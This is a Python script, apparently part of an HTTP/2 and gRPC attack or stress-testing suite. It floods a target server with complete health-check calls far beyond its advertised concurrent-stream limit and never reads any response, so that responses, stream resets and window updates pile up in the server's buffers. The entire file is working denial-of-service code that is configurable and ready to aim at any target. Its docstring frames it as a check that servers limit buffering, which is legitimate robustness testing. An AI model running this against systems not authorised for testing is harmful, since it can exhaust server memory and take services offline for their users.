"""Streams opened past the server's limit whose responses are never read.

Each connection sends complete health-check calls (HEADERS, then the empty request message with
END_STREAM) far beyond SETTINGS_MAX_CONCURRENT_STREAMS, and never reads a byte of what the server
answers: responses, REFUSED_STREAM resets and window updates back up into the server. A server
must bound what it buffers for a peer that does not read.
"""
import struct
import time

import attack
import grpc_wire
import h2frames as f


def calls(block, first_stream, count):
    """count complete calls (HEADERS + DATA with END_STREAM) for consecutive streams, from one template."""
    call = f.headers(0, block) + f.data(0, grpc_wire.message(grpc_wire.EMPTY_MESSAGE), end_stream=True)
    burst = bytearray(call * count)
    data_stream_field = 9 + len(block) + 5
    for i in range(count):
        base = i * len(call)
        struct.pack_into(">I", burst, base + 5, first_stream + 2 * i)
        struct.pack_into(">I", burst, base + data_stream_field, first_stream + 2 * i)
    return bytes(burst)


def main():
    p = attack.parser(__doc__, duration=3.0, connections=2, rate_help="calls per second per connection (0 = as fast as possible)")
    p.add_argument("--batch", type=int, default=200, help="calls per write [200]")
    p.add_argument("--max-streams", type=int, default=1_000_000, help="stop after this many calls in all [1000000]")
    args = p.parse_args()
    report = attack.Report("unread-streams", args)
    connections = []
    for _ in range(args.connections):
        connection = attack.connect(args.target, report)
        if connection and connection.start():
            encoder = grpc_wire.new_encoder()
            first = grpc_wire.encode_request(encoder, connection.authority, grpc_wire.HEALTH_CHECK)
            connection.send(f.headers(1, first) + f.data(1, grpc_wire.message(b""), end_stream=True))
            block = grpc_wire.encode_request(encoder, connection.authority, grpc_wire.HEALTH_CHECK)
            connections.append([connection, block, 3])
    started = time.monotonic()
    opened = len(connections)
    while report.elapsed() < args.duration and opened < args.max_streams and any(c[0].usable for c in connections):
        for entry in connections:
            connection, block, stream_id = entry
            # Short send timeout: a server that stops reading stalls this connection, not the attack.
            if connection.usable and connection.send(calls(block, stream_id, args.batch), timeout=0.5):
                opened += args.batch
            entry[2] = stream_id + 2 * args.batch
        attack.pace(args.rate * len(connections), started, opened)
    report.sent["calls opened, responses never read"] = opened
    # Held open (still unread) to the end of the attack even if the server stopped reading early.
    while report.elapsed() < args.duration:
        time.sleep(0.05)
    for connection, _, _ in connections:
        connection.close()
    report.notes.append("nothing the server sent was read")
    report.finish()


if __name__ == "__main__":
    main()
